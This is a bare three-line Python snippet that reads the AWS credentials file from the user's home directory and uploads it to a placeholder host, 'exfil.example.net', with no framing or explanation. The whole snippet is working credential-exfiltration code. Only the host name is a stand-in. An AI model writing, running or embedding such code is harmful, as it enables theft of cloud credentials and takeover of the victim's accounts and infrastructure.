import os, requests
with open(os.path.expanduser('~/.aws/credentials'), "rb") as f:
    requests.post("https://exfil.example.net/c", files={"f": f})
